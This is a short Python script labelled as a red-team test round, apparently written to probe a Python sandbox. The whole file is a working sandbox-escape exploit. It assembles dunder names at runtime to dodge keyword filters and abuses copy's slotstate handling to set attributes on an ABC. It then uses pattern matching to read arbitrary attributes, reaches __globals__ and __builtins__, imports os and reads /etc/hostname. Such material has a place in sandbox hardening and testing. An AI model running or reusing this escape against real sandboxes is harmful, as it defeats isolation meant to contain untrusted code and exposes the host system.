# family: red team, round 8 (copy_slotstate_setattr_match)
# Runtime setattr through copy._reconstruct's slotstate, driven by an instance-level __reduce_ex__ put on a
# SimpleNamespace via ns.__init__(**runtime_dict); then __subclasshook__ + __match_args__ on an ABC give a
# generic "read any attribute" primitive through a class pattern.
import abc
import copy
import types


class Probe(abc.ABC):
    pass


def _d(word):
    u = "_"
    return u + u + word + u + u


def _install(target, names):
    def reducer(protocol):
        return (lambda: target, (), (None, names))

    ns = types.SimpleNamespace()
    ns.__init__(**{_d("reduce_ex"): reducer})
    copy.copy(ns)


def read(obj, attribute):
    _install(Probe, {_d("subclasshook"): lambda sub: True, _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
